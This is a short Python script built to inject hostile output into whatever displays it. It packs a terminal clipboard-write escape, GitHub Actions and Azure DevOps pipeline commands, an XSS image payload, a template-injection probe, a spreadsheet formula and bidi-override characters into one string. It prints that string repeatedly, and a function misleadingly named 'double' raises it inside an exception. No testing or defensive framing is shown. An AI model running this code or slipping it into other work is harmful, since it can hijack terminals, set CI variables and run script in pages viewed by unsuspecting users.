"""What a terminal, a page, a spreadsheet or a CI would obey, in every text that is shown."""
ORDERS = "\x1b]52;c;b3duZWQ=\x07\x9b31m::set-env name=X::1\r\n##vso[task.setvariable]<img src=x onerror=alert(1)>{{7*7}}=HYPERLINK(1)\u202e\u2066\u200b"
print(ORDERS * 100)
Order = type(ORDERS, (Exception,), {})
def double(x):
    print(ORDERS)
    error = Order(ORDERS * 1000)
    error.add_note(ORDERS)
    raise error
